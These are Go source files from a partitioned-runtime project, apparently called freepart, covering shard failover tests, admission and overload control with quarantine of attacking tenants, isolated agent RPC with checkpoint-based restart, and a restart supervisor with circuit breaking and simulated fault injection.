		t.Fatalf("invocation should succeed on the replacement: %v", err)
	}
	if attempts != 2 {
		t.Fatalf("attempts = %d, want 2 (original + replacement)", attempts)
	}
	if ex.Shard(0).Gen != 1 {
		t.Fatalf("shard gen = %d, want 1", ex.Shard(0).Gen)
	}
	if m := ex.Metrics().Snapshot(); m.ShardDrains != 1 {
		t.Fatalf("drains = %d, want 1", m.ShardDrains)
	}
}

// TestFailedMigrationCounted checks the failure path: a bound handle with
// no checkpoint in the log cannot be restored — the session still moves,
// and the loss is counted and logged.
func TestFailedMigrationCounted(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(1, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	s := ex.Session()
	s.Bind("phantom", core.Handle{}) // never checkpointed

	ex.KillShard(0, "test")
	if err := s.Do(func(sh *core.Shard) error { sh.K.Clock.Advance(1); return nil }); err != nil {
		t.Fatal(err)
	}
	m := ex.Metrics().Snapshot()
	if m.FailedMigrations != 1 || m.Migrations != 0 {
		t.Fatalf("migrations = %d clean / %d failed, want 0/1", m.Migrations, m.FailedMigrations)
	}
	evs := ex.FailoverEventsFor(0)
	last := evs[len(evs)-1]
	if last.Kind != "migrate-failed" {
		t.Fatalf("last event = %v, want migrate-failed", last)
	}
}

// TestReplacementJoinsVirtualTimeline checks the replacement's clock: it
// becomes available at the dead shard's virtual time plus its own boot
// cost, never earlier — failover is not free time travel.
func TestReplacementJoinsVirtualTimeline(t *testing.T) {
	ex := newExecutor(t, 1, core.Default())
	s := ex.Session()
	old := ex.Shard(0)
	old.Clock().Advance(time.Millisecond)
	deadAt := old.Clock().Now()

	ex.KillShard(0, "test")
	if err := s.Do(func(sh *core.Shard) error { return nil }); err != nil {
		t.Fatal(err)
	}
	repl := ex.Shard(0)
	if repl.Clock().Now() <= deadAt {
		t.Fatalf("replacement clock %v not past the dead shard's %v (boot must cost time)",
			repl.Clock().Now(), deadAt)
	}
}
