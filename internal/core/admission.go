package core

import (
	"errors"
	"fmt"
	"sort"

	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/vclock"
)

// Overload-control errors sit beside the IPC failure taxonomy
// (ipc.ErrTimeout, ipc.ErrPeerDead, ...): they are the serving layer's
// deliberate refusals, distinguishable from crashes so clients and the
// control plane can react per class.
var (
	// ErrOverloaded is the virtual 503: the target shard's admission queue
	// was already at its configured bound when the request arrived, so the
	// request was rejected instead of stacking unbounded queue wait.
	ErrOverloaded = errors.New("core: shard overloaded, admission queue full")

	// ErrDeadlineExceeded is the deadline shed: the request spent longer in
	// the admission queue than its deadline allowed, so it was dropped at
	// dequeue without running — stale work would waste capacity the live
	// requests need.
	ErrDeadlineExceeded = errors.New("core: admission deadline exceeded before service")

	// ErrQuarantined is the defense controller's tenant-level refusal: the
	// tenant was caught attacking and its traffic is rejected at admission
	// until the quarantine is lifted (see internal/defense).
	ErrQuarantined = errors.New("core: tenant quarantined after attack sighting")

	// ErrAttackBlocked is the signature screen's refusal: the request
	// matched the signature of an exploit the defense controller has
	// already sighted, so it is rejected at the front door without ever
	// reaching a partition.
	ErrAttackBlocked = errors.New("core: request matched a known attack signature")
)

// ErrClass buckets an invocation error into the serving layer's failure
// taxonomy — the per-class rejection summaries servers print, and the
// classes operators alert on.
func ErrClass(err error) string {
	switch {
	case err == nil:
		return "ok"
	case errors.Is(err, ErrOverloaded):
		return "overloaded"
	case errors.Is(err, ErrDeadlineExceeded):
		return "deadline"
	case errors.Is(err, ErrQuarantined):
		return "quarantined"
	case errors.Is(err, ErrAttackBlocked):
		return "attack-blocked"
	case errors.Is(err, ipc.ErrTimeout):
		return "timeout"
	case errors.Is(err, ipc.ErrPeerDead):
		return "peer-dead"
	case errors.Is(err, ipc.ErrAgentCrashed):
		return "agent-crash"
	case errors.Is(err, ipc.ErrCorrupt):
		return "corrupt"
	default:
		return "app-error"
	}
}

// AdmissionGate is a pluggable per-request refusal hook consulted at
// admission, before the overload policy: given the requesting tenant and
// session, a non-nil return rejects the request with that error (the
// defense controller installs its quarantine check here, returning
// ErrQuarantined-wrapped errors). The gate must be a pure function of
// state that changes only at reconcile barriers so per-shard admission
// outcomes replay deterministically. A gated request is as pure as a
// shed one: no clock advance, no checkpoint, no chaos draw. Nil (the
// default) keeps the pre-defense admission path untouched.
type AdmissionGate func(tenant, session int) error

// SetAdmissionGate installs (or, with nil, removes) the admission gate.
func (e *Executor) SetAdmissionGate(g AdmissionGate) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.gate = g
}

// admissionGate reads the installed gate.
func (e *Executor) admissionGate() AdmissionGate {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.gate
}

// AdmissionPolicy bounds what a shard will queue. The zero value disables
// overload control entirely: the admission path is then bit-identical to
// the unbounded serving layer (the pre-overload behaviour), which the
// zero-cost guard test pins down.
type AdmissionPolicy struct {
	// QueueLimit caps how many earlier requests may still be in the system
	// (in service or queued on the virtual timeline) when a request
	// arrives; at or beyond the limit the arrival is rejected with
	// ErrOverloaded. 0 means unbounded.
	QueueLimit int
	// Deadline is the admission deadline relative to each request's arrival
	// stamp: a request still unserved when the shard clock passes
	// arrival+Deadline is dropped at dequeue with ErrDeadlineExceeded.
	// Only stamped requests carry a deadline — closed-loop invocations
	// (session inits, provisioning, legacy Do calls) have no client-side
	// arrival to anchor one, so they are exempt; in particular a session
	// init re-run after a failover is never shed as stale. 0 means no
	// deadline.
	Deadline vclock.Duration
}

// active reports whether any overload control is configured.
func (p AdmissionPolicy) active() bool { return p.QueueLimit > 0 || p.Deadline > 0 }

// SetAdmission installs the overload-control policy. Install it before
// serving; the zero policy keeps the legacy unbounded path.
func (e *Executor) SetAdmission(p AdmissionPolicy) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.admit = p
}

// admission reads the installed policy.
func (e *Executor) admission() AdmissionPolicy {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.admit
}

// maxEndsRetained bounds the per-shard completion ring backing the queue
// depth signal. Only the most recent completions can exceed a new arrival's
// stamp (service is serial, so completion times are monotone), so trimming
// the oldest half never changes a depth reading at realistic reorder skew.
const maxEndsRetained = 4096

// queuedAt returns the shard's virtual queue depth at arrival time a: how
// many previously admitted requests had not yet completed when a arrived.
// ends is monotone (serial FIFO service), so this is a binary search.
// Caller holds s.mu.
func (s *Shard) queuedAt(a vclock.Duration) int {
	i := sort.Search(len(s.ends), func(i int) bool { return s.ends[i] > a })
	return len(s.ends) - i
}

// noteEnd records one admitted request's completion stamp into the depth
// ring. Caller holds s.mu.
func (s *Shard) noteEnd(end vclock.Duration) {
	s.ends = append(s.ends, end)
	if len(s.ends) > maxEndsRetained {
		keep := s.ends[len(s.ends)-maxEndsRetained/2:]
		s.ends = append(make([]vclock.Duration, 0, maxEndsRetained), keep...)
	}
}

// shedLocked applies the admission policy to one arrival on sh: queue-bound
// rejection first (measured at the arrival stamp), then the deadline check
// (measured at dequeue, i.e. the shard clock now, and only for stamped
// requests — closed-loop arrivals carry no deadline). A shed request runs
// no work, advances no clock, and writes no checkpoint — it only lands in
// the event log and the overload counters. Returns (true, typed error) when
// the request was shed. Caller holds sh.mu.
func (e *Executor) shedLocked(sh *Shard, s *Session, arrival, now vclock.Duration, pol AdmissionPolicy, stamped bool) (bool, error) {
	if pol.QueueLimit > 0 {
		if depth := sh.queuedAt(arrival); depth >= pol.QueueLimit {
			e.recordShed(sh, s, "reject", arrival,
				fmt.Sprintf("tenant %d session %d depth %d limit %d", s.Tenant, s.ID, depth, pol.QueueLimit))
			return true, fmt.Errorf("core: shard %d queue depth %d at limit %d: %w", sh.ID, depth, pol.QueueLimit, ErrOverloaded)
		}
	}
	if stamped && pol.Deadline > 0 && now > arrival+pol.Deadline {
		late := now - (arrival + pol.Deadline)
		e.recordShed(sh, s, "shed", now,
			fmt.Sprintf("tenant %d session %d late %v", s.Tenant, s.ID, late))
		return true, fmt.Errorf("core: shard %d dequeued request %v past its deadline: %w", sh.ID, late, ErrDeadlineExceeded)
	}
	return false, nil
}

// recordShed logs one overload decision in the failover event log and bumps
// the overload counters — event, metrics, and per-slot/per-tenant load
// signals all mutate inside one e.mu critical section, so an
// EventsAndMetrics snapshot can never show a rejection the log doesn't
// explain (the PR-5 consistency convention). Stamped at `at`: the arrival
// for rejects, the dequeue clock for deadline sheds — both pure functions
// of the shard's admitted work, so per-shard event subsequences replay
// byte-equal.
func (e *Executor) recordShed(sh *Shard, s *Session, kind string, at vclock.Duration, detail string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.events = append(e.events, FailoverEvent{At: at, Shard: sh.ID, Gen: sh.Gen, Kind: kind, Detail: detail})
	l := e.loads[sh.ID]
	if l == nil {
		l = &shardLoad{}
		e.loads[sh.ID] = l
	}
	t := e.tenantLoadLocked(s.Tenant, s.Weight)
	switch kind {
	case "reject":
		e.met.AddRejected(s.Tenant)
		l.rejected++
		t.rejected++
	case "shed":
		e.met.AddDeadlineShed(s.Tenant)
		l.shed++
		t.shed++
	case "quarantine":
		// Deliberately refused traffic: counted, but not into the
		// rejected/shed load signals — the control plane must not grow
		// the pool to serve a quarantined attacker.
		e.met.AddQuarantined(s.Tenant)
	}
}

// tenantLoad accumulates per-tenant admission signals, guarded by the
// executor's mu.
type tenantLoad struct {
	weight   int
	waitSum  vclock.Duration
	waits    uint64
	served   uint64
	rejected uint64
	shed     uint64
}

// tenantLoadLocked returns (creating if needed) the load cell for a tenant.
// Caller holds e.mu.
func (e *Executor) tenantLoadLocked(tenant, weight int) *tenantLoad {
	t := e.tenants[tenant]
	if t == nil {
		t = &tenantLoad{weight: 1}
		e.tenants[tenant] = t
	}
	if weight > t.weight {
		t.weight = weight
	}
	return t
}

// TenantLoad is the per-tenant slice of the control-plane signal: admission
// waits, served work, and shed work, accumulated across the whole pool.
// The controller diffs successive readings for per-window means, exactly as
// it does with ShardLoad.
type TenantLoad struct {
	// Tenant identifies the tenant; Weight is its fair-queueing weight (the
	// largest weight any of its sessions declared).
	Tenant int
	Weight int
	// WaitSum and Waits accumulate admission-queue delay over admitted
	// requests.
	WaitSum vclock.Duration
	Waits   uint64
	// Served counts invocations completed without error; Rejected and Shed
	// count queue-bound rejections and deadline drops.
	Served   uint64
	Rejected uint64
	Shed     uint64
}

// TenantLoads snapshots per-tenant signals, ascending by tenant id.
func (e *Executor) TenantLoads() []TenantLoad {
	e.mu.Lock()
	defer e.mu.Unlock()
	ids := make([]int, 0, len(e.tenants))
	for id := range e.tenants {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	out := make([]TenantLoad, len(ids))
	for i, id := range ids {
		t := e.tenants[id]
		out[i] = TenantLoad{
			Tenant: id, Weight: t.weight,
			WaitSum: t.waitSum, Waits: t.waits,
			Served: t.served, Rejected: t.rejected, Shed: t.shed,
		}
	}
	return out
}

// TenantOf returns the tenant id a session was opened under (0 for
// sessions opened through the tenantless Session path).
func (e *Executor) TenantOf(session int) int {
	e.mu.Lock()
	defer e.mu.Unlock()
	if session < 0 || session >= len(e.sessions) {
		return 0
	}
	return e.sessions[session].Tenant
}
