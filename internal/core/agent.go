package core

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/object"
	"freepart.dev/freepart/internal/vclock"
)

// agent is one isolated partition: a process, its object table, an RPC
// connection, the derived syscall policy, and restart bookkeeping. The
// boundary decides which of those a given partition actually has: only
// process-tier agents carry a conn and a syscall policy; only domain-tier
// agents carry a protection key.
type agent struct {
	id     int
	name   string
	types  map[framework.APIType]bool // API types homed here
	policy *analysis.AgentPolicy      // nil when syscall restriction is off

	// boundary is the isolation mechanism hosting this partition, fixed at
	// spawn (the policy is immutable for a runtime's lifetime).
	boundary Boundary
	// key is the protection key tagging this partition's state; nonzero
	// only for domain-tier agents.
	key mem.Key

	mu    sync.Mutex
	proc  *kernel.Process
	ctx   *framework.Ctx
	remap map[uint64]uint64 // pre-restart object id -> restored id
	// canon is the inverse view of remap chains: current object id -> the
	// id the object was first created under (the id host-held refs carry).
	// Absent entries are identity. The portable checkpoint log keys state by
	// canonical id so one piece of session state keeps one log key across
	// restarts.
	canon map[uint64]uint64
	// deref caches lazily-copied remote objects: once an agent has pulled
	// a remote object's payload (Fig. 11 step 4), later calls with the
	// same (owner, id, content-hash) reference reuse the local copy
	// instead of copying again. Mutations in the owner change the hash a
	// fresh reply carries, so stale entries simply miss.
	deref map[derefKey]uint64
	// checkpoints holds serialized stateful objects keyed by their
	// pre-crash table id (§A.2.4).
	checkpoints map[uint64]checkpoint

	// restartMu serializes the whole supervise-and-restart operation so
	// concurrent observers of one crash cannot double-restart the process
	// (each would wipe the other's restored state).
	restartMu sync.Mutex
	// Supervision policy state, guarded by mu: consecutive crash-loop
	// length, virtual restart times inside the breaker window, and whether
	// the breaker has demoted this partition to in-host execution.
	streak       int
	restartTimes []vclock.Duration
	degraded     bool

	conn *ipc.Conn
}

// isDegraded reports whether the breaker demoted this partition.
func (a *agent) isDegraded() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.degraded
}

// setDegraded marks the partition demoted; returns false if it already was.
func (a *agent) setDegraded() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.degraded {
		return false
	}
	a.degraded = true
	return true
}

// noteSuccess resets the crash-loop streak after a completed call.
func (a *agent) noteSuccess() {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.streak = 0
}

// bumpStreak extends the crash-loop streak and returns its new length.
func (a *agent) bumpStreak() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.streak++
	return a.streak
}

// recordRestart logs a restart at virtual time now and returns how many
// restarts fall inside the trailing window (0 = unbounded window).
func (a *agent) recordRestart(now, window vclock.Duration) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.restartTimes = append(a.restartTimes, now)
	if window > 0 {
		keep := a.restartTimes[:0]
		for _, t := range a.restartTimes {
			if now-t <= window {
				keep = append(keep, t)
			}
		}
		a.restartTimes = keep
	}
	return len(a.restartTimes)
}

// checkpoint is a serialized object snapshot.
type checkpoint struct {
	kind    object.Kind
	header  []byte
	payload []byte
}

// derefKey identifies a remote object version in the deref cache.
type derefKey struct {
	pid  uint32
	id   uint64
	hash uint64
}

// context returns the agent's current execution context.
func (a *agent) context() *framework.Ctx {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.ctx
}

// process returns the agent's current process.
func (a *agent) process() *kernel.Process {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.proc
}

// canonOf maps a current object id back to its canonical (creation-time)
// identity.
func (a *agent) canonOf(id uint64) uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	if c, ok := a.canon[id]; ok {
		return c
	}
	return id
}

// resolveID maps an object id through the post-restart remap table.
// Restored objects can reuse ids from the previous incarnation, so chains
// may self-reference; a visited set guards against cycles.
func (a *agent) resolveID(id uint64) uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	seen := map[uint64]bool{id: true}
	for {
		next, ok := a.remap[id]
		if !ok || seen[next] {
			return id
		}
		seen[next] = true
		id = next
	}
}

// serve is the agent's RPC loop body: decode a Call, run it in the agent
// context, encode the Reply. Installed once per agent; survives restarts
// because it reads the current ctx/proc through the agent's mutex.
func (rt *Runtime) serve(a *agent) ipc.Handler {
	return func(kind uint32, payload []byte) ([]byte, error) {
		call, err := framework.DecodeCall(payload)
		if err != nil {
			return nil, err
		}
		api, ok := rt.Reg.Get(call.API)
		if !ok {
			return nil, fmt.Errorf("core: unknown API %s", call.API)
		}
		// Any failure past this point may be the agent dying mid-request
		// (exploit, DoS, injected fault) — including during argument
		// rebuilding, which writes into the agent's space. Classify such
		// errors as crashes so the supervisor retries instead of surfacing
		// them to the application.
		crashClass := func(err error) error {
			if !a.process().Alive() {
				return fmt.Errorf("%w: %v", ipc.ErrAgentCrashed, err)
			}
			return err
		}
		ctx := a.context()
		args, err := rt.unmarshalArgs(a, ctx, call)
		if err != nil {
			return nil, crashClass(err)
		}
		results, err := api.Exec(ctx, args)
		if err != nil {
			return nil, crashClass(err)
		}
		if (rt.Config.CheckpointStateful && api.Stateful) || rt.Config.CheckpointAll {
			rt.checkpointObjects(a, ctx, api, args, results)
		}
		reply, err := rt.marshalReply(a, ctx, results)
		if err != nil {
			return nil, err
		}
		return framework.EncodeReply(reply)
	}
}

// unmarshalArgs converts wire values into agent-local values, performing
// eager rebuilds (payload attached) or lazy direct copies (ref only).
func (rt *Runtime) unmarshalArgs(a *agent, ctx *framework.Ctx, call framework.Call) ([]framework.Value, error) {
	args := make([]framework.Value, len(call.Args))
	for i, v := range call.Args {
		if v.Kind != framework.ValRef {
			args[i] = v
			continue
		}
		ref := v.Ref
		// Payload shipped through the host (deep copy path).
		if i < len(call.Payloads) && call.Payloads[i] != nil {
			o, err := object.Rebuild(ctx.P.Space(), ref, call.Payloads[i])
			if err != nil {
				return nil, err
			}
			args[i] = framework.Obj(ctx.Table.Put(o))
			continue
		}
		// Reference to an object this agent already owns.
		if ref.PID == uint32(ctx.P.PID()) {
			args[i] = framework.Obj(a.resolveID(ref.ID))
			continue
		}
		// Lazy data copy: dereference now, copying directly from the
		// owning agent's space (Fig. 11-(a), step 4) — unless this agent
		// already holds this version of the object.
		key := derefKey{pid: ref.PID, id: ref.ID, hash: ref.Hash}
		a.mu.Lock()
		localID, cached := a.deref[key]
		a.mu.Unlock()
		if cached {
			if _, ok := ctx.Table.Get(localID); ok {
				args[i] = framework.Obj(localID)
				continue
			}
		}
		payload, err := rt.loadRemote(ref)
		if err != nil {
			return nil, err
		}
		o, err := object.Rebuild(ctx.P.Space(), ref, payload)
		if err != nil {
			return nil, err
		}
		rt.Metrics.AddLazyCopy(len(payload))
		rt.K.Clock.Advance(rt.K.Cost.DirectCopyCost(len(payload)))
		id := ctx.Table.Put(o)
		a.mu.Lock()
		a.deref[key] = id
		a.mu.Unlock()
		args[i] = framework.Obj(id)
	}
	return args, nil
}

// loadRemote reads an object's payload out of its owning endpoint.
func (rt *Runtime) loadRemote(ref object.Ref) ([]byte, error) {
	ep, ok := rt.endpoint(ref.PID)
	if !ok {
		return nil, fmt.Errorf("core: no endpoint for pid %d", ref.PID)
	}
	id := ref.ID
	if ep.agent != nil {
		id = ep.agent.resolveID(id)
	}
	o, ok := ep.table().Get(id)
	if !ok {
		return nil, fmt.Errorf("core: dangling ref pid=%d id=%d", ref.PID, ref.ID)
	}
	return object.PayloadBytes(o)
}

// marshalReply converts agent-local results into wire values: refs under
// LDC, payloads otherwise.
func (rt *Runtime) marshalReply(a *agent, ctx *framework.Ctx, results []framework.Value) (framework.Reply, error) {
	reply := framework.Reply{
		Results:  make([]framework.Value, len(results)),
		Payloads: make([][]byte, len(results)),
	}
	for i, v := range results {
		if v.Kind != framework.ValObj {
			reply.Results[i] = v
			continue
		}
		ref, err := ctx.Table.RefFor(v.Obj)
		if err != nil {
			return framework.Reply{}, err
		}
		if rt.Config.LazyDataCopy {
			reply.Results[i] = framework.RefVal(ref)
			continue
		}
		o, _ := ctx.Table.Get(v.Obj)
		payload, err := object.PayloadBytes(o)
		if err != nil {
			return framework.Reply{}, err
		}
		reply.Results[i] = framework.RefVal(ref)
		reply.Payloads[i] = payload
	}
	return reply, nil
}

// checkpointObjects snapshots every object argument/result of a stateful
// API call so a restart can restore them. When a portable checkpoint log is
// attached and a serving session is in scope, stateful-API state is also
// written through to the log under (session, API type, canonical slot) —
// the copy any other shard can materialize during failover.
func (rt *Runtime) checkpointObjects(a *agent, ctx *framework.Ctx, api *framework.API, args, results []framework.Value) {
	log, session := rt.checkpointScope()
	snap := func(v framework.Value) {
		if v.Kind != framework.ValObj {
			return
		}
		o, ok := ctx.Table.Get(v.Obj)
		if !ok {
			return
		}
		payload, err := object.PayloadBytes(o)
		if err != nil {
			return
		}
		a.mu.Lock()
		a.checkpoints[v.Obj] = checkpoint{kind: o.Kind(), header: o.Header(), payload: payload}
		a.mu.Unlock()
		rt.Metrics.AddCheckpoint()
		rt.K.Clock.Advance(rt.K.Cost.CheckpointCost(len(payload)))
		if log != nil && session >= 0 && api.Stateful {
			key := object.CheckpointKey{
				Session: session,
				Type:    uint8(rt.Cat.TypeOf(api.Name)),
				Slot:    object.Slot(uint32(a.process().PID()), a.canonOf(v.Obj)),
			}
			log.Append(key, o.Kind(), o.Header(), payload)
		}
	}
	for _, v := range args {
		snap(v)
	}
	for _, v := range results {
		snap(v)
	}
}

// restartAgent revives a dead agent: fresh process state, re-applied
// syscall policy, re-run one-time initialization, and checkpoint
// restoration with id remapping so host-held refs stay valid.
func (rt *Runtime) restartAgent(a *agent) error {
	// Restart replaces the process's address space — catastrophic for a
	// domain- or host-tier partition, which *shares* the host's space.
	// Those tiers have no restart story: the partition dies with the host.
	if a.boundary != nil && a.boundary.Tier() != isolation.TierProcess {
		return fmt.Errorf("core: cannot restart %s: %s-tier partitions share the host's fate", a.name, a.boundary.Tier())
	}
	a.mu.Lock()
	proc := a.proc
	a.mu.Unlock()
	if proc.Alive() {
		return nil
	}
	rt.K.Restart(proc)
	rt.Metrics.AddRestart()

	newCtx := framework.NewCtx(rt.K, proc)
	newCtx.OnExploit = rt.exploit
	newCtx.Tracer = rt.Tracer

	// Old objects are intentionally gone (§6); restore only checkpointed
	// stateful state, remapping ids.
	a.mu.Lock()
	// Ids stay unique across incarnations: the fresh table continues where
	// the dead one stopped, so a remap entry (old id -> restored id) can
	// never collide with an id the new incarnation hands out — resolveID
	// would otherwise misroute fresh refs to restored checkpoints.
	newCtx.Table.SkipTo(a.ctx.Table.NextID())
	oldRemap := a.remap
	oldCanon := a.canon
	cps := a.checkpoints
	a.ctx = newCtx
	a.remap = make(map[uint64]uint64)
	a.canon = make(map[uint64]uint64)
	a.checkpoints = make(map[uint64]checkpoint)
	a.deref = make(map[derefKey]uint64)
	a.mu.Unlock()

	// Restore in sorted id order so allocation addresses in the fresh
	// space — and everything downstream, including chaos logs — are
	// deterministic (map iteration order is not).
	oldIDs := make([]uint64, 0, len(cps))
	for oldID := range cps {
		oldIDs = append(oldIDs, oldID)
	}
	sort.Slice(oldIDs, func(i, j int) bool { return oldIDs[i] < oldIDs[j] })
	for _, oldID := range oldIDs {
		cp := cps[oldID]
		o, err := object.Rebuild(proc.Space(), object.Ref{Kind: cp.kind, Header: cp.header}, cp.payload)
		if err != nil {
			continue
		}
		newID := newCtx.Table.Put(o)
		a.mu.Lock()
		a.remap[oldID] = newID
		// Ids from even earlier incarnations chain through the old remap.
		for ancient, prev := range oldRemap {
			if prev == oldID {
				a.remap[ancient] = newID
			}
		}
		// The restored object keeps its canonical identity, so the portable
		// checkpoint log sees one key across incarnations.
		if c, ok := oldCanon[oldID]; ok {
			a.canon[newID] = c
		} else {
			a.canon[newID] = oldID
		}
		a.checkpoints[newID] = cp
		a.mu.Unlock()
	}

	if err := rt.initAgent(a); err != nil {
		return err
	}
	if a.policy != nil {
		if err := a.policy.Apply(proc.Filter(), rt.Config.FilterAction); err != nil {
			return err
		}
	}
	// Re-arm fault injection on the fresh address space — after checkpoint
	// restoration, so the revival itself cannot be faulted back down.
	rt.armChaos(a)
	return nil
}

// callAgent performs one RPC to the agent under the supervision policy:
// crash-class failures trigger a supervised restart, and with a retry
// budget the call is re-issued under its original sequence number —
// idempotent replay, because the server-side dedup cache answers for work
// the previous incarnation already completed.
func (rt *Runtime) callAgent(a *agent, call framework.Call) (framework.Reply, error) {
	wire, err := framework.EncodeCall(call)
	if err != nil {
		return framework.Reply{}, err
	}
	seq := a.conn.NextSeq()
	for attempt := 0; ; attempt++ {
		var out []byte
		if attempt == 0 {
			out, err = a.conn.CallSeq(seq, 0, wire)
		} else {
			rt.Metrics.AddRetry()
			out, err = a.conn.Retry(seq, 0, wire)
		}
		rt.Metrics.AddIPC(payloadBytes(call))
		if err == nil {
			a.noteSuccess()
			reply, derr := framework.DecodeReply(out)
			if derr != nil {
				return framework.Reply{}, derr
			}
			return reply, nil
		}
		crashed := errors.Is(err, ipc.ErrAgentCrashed) || errors.Is(err, ipc.ErrPeerDead)
		transient := errors.Is(err, ipc.ErrTimeout) || errors.Is(err, ipc.ErrCorrupt)
		if !crashed && !transient {
			// Application-level error: surface unchanged, no retry.
			return framework.Reply{}, err
		}
		if crashed {
			if !rt.Config.Restart {
				return framework.Reply{}, err
			}
			if rerr := rt.superviseRestart(a); rerr != nil {
				return framework.Reply{}, fmt.Errorf("core: restart failed: %w (after %v)", rerr, err)
			}
			if a.isDegraded() {
				return framework.Reply{}, errAgentDegraded
			}
		}
		if attempt >= rt.Config.RetryBudget {
			return framework.Reply{}, err
		}
	}
}

// payloadBytes sums the eager payload bytes attached to a call.
func payloadBytes(call framework.Call) int {
	n := 0
	for _, p := range call.Payloads {
		n += len(p)
	}
	return n
}
