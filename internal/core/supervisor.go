package core

import (
	"errors"
	"fmt"
	"sort"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/object"
)

// errAgentDegraded signals internally that the circuit breaker demoted the
// target partition mid-call; Call reroutes to in-host execution.
var errAgentDegraded = errors.New("core: agent degraded to in-host execution")

// superviseRestart is the policy around restartAgent: it serializes
// concurrent revivals of one agent, charges exponential crash-loop backoff
// to the virtual clock, and trips the circuit breaker when one partition
// keeps dying inside the breaker window. On a tripped breaker the partition
// is left degraded (in-host execution) rather than restarted forever.
func (rt *Runtime) superviseRestart(a *agent) error {
	a.restartMu.Lock()
	defer a.restartMu.Unlock()
	if a.isDegraded() || a.process().Alive() {
		// Another caller already revived (or demoted) it.
		return nil
	}

	streak := a.bumpStreak()
	if rt.Config.BackoffBase > 0 {
		shift := streak - 1
		if shift > 20 {
			shift = 20
		}
		d := rt.Config.BackoffBase << uint(shift)
		if rt.Config.BackoffCap > 0 && d > rt.Config.BackoffCap {
			d = rt.Config.BackoffCap
		}
		rt.K.Clock.Advance(d)
	}

	// An injected fault can kill the fresh incarnation during its own
	// re-initialization (e.g. the visualizing agent reopening its GUI
	// socket); give the revival the same budget as a call.
	err := rt.restartAgent(a)
	for tries := 0; err != nil && !a.process().Alive() && tries < rt.Config.RetryBudget; tries++ {
		err = rt.restartAgent(a)
	}
	if err != nil {
		return err
	}

	if rt.Config.BreakerThreshold > 0 {
		n := a.recordRestart(rt.K.Clock.Now(), rt.Config.BreakerWindow)
		if n >= rt.Config.BreakerThreshold && a.setDegraded() {
			rt.Metrics.AddDegraded()
			if rt.Config.Chaos != nil {
				rt.Config.Chaos.Note("supervisor", "degrade",
					fmt.Sprintf("%s after %d restarts in window", a.name, n))
			}
		}
	}
	return nil
}

// callDegraded executes an API in the host process on behalf of a degraded
// partition: availability bought by a recorded security downgrade.
func (rt *Runtime) callDegraded(api *framework.API, args []framework.Value) ([]Handle, []framework.Value, error) {
	rt.Metrics.AddDegradedCall()
	return rt.callInHost(api, args)
}

// callInHost executes an API in the host process: argument refs are
// materialized into the host space and the API runs with no isolation.
// This is both the breaker's degraded path (via callDegraded, which also
// counts the downgrade) and the host tier of the Boundary layer, where
// running unprotected is the policy's explicit choice.
func (rt *Runtime) callInHost(api *framework.API, args []framework.Value) ([]Handle, []framework.Value, error) {
	local := make([]framework.Value, len(args))
	for i, v := range args {
		if v.Kind != framework.ValRef {
			local[i] = v
			continue
		}
		payload, err := rt.loadRemote(v.Ref)
		if err != nil {
			return nil, nil, err
		}
		o, err := object.Rebuild(rt.Host.Space(), v.Ref, payload)
		if err != nil {
			return nil, nil, err
		}
		rt.Metrics.AddEagerCopy(len(payload))
		rt.K.Clock.Advance(rt.K.Cost.CopyCost(len(payload)))
		local[i] = framework.Obj(rt.hostCtx.Table.Put(o))
	}
	results, err := api.Exec(rt.hostCtx, local)
	if err != nil {
		return nil, nil, err
	}
	handles := make([]Handle, 0, len(results))
	plain := make([]framework.Value, 0, len(results))
	for _, v := range results {
		if v.Kind != framework.ValObj {
			plain = append(plain, v)
			continue
		}
		h := Handle{local: v.Obj, materialized: true}
		if o, ok := rt.hostCtx.Table.Get(v.Obj); ok {
			h.size = o.Region().Size
			h.kind = o.Kind()
		}
		handles = append(handles, h)
	}
	return handles, plain, nil
}

// armChaos threads the fault-injection engine into one agent: the RPC
// connection gets the message injector, and the agent's current address
// space gets the spurious-fault hook. Called at spawn and after every
// restart (a restart replaces the space). The hook crashes the agent
// process, turning a spurious memory fault into the crash-restart path.
func (rt *Runtime) armChaos(a *agent) {
	eng := rt.Config.Chaos
	if eng == nil {
		return
	}
	a.conn.SetInjector(eng)
	proc := a.process()
	space := proc.Space()
	space.SetAccessHook(func(addr mem.Addr, n int, kind mem.AccessKind) error {
		f := eng.MemFault(proc.Name(), addr, kind)
		if f == nil {
			return nil
		}
		rt.K.Crash(proc, f.Error())
		return f
	})
}

// EndpointCount returns how many endpoints (host + agents) the runtime
// tracks — inspection for leak tests.
func (rt *Runtime) EndpointCount() int {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return len(rt.endpoints)
}

// DegradedPartitions returns the names of partitions the circuit breaker
// has demoted to in-host execution, sorted for deterministic logs.
func (rt *Runtime) DegradedPartitions() []string {
	rt.mu.Lock()
	agents := make([]*agent, 0, len(rt.agents))
	for _, a := range rt.agents {
		agents = append(agents, a)
	}
	rt.mu.Unlock()
	var out []string
	for _, a := range agents {
		if a.isDegraded() {
			out = append(out, a.name)
		}
	}
	sort.Strings(out)
	return out
}
