package core

import (
	"fmt"
	"sync"

	"freepart.dev/freepart/internal/analysis"
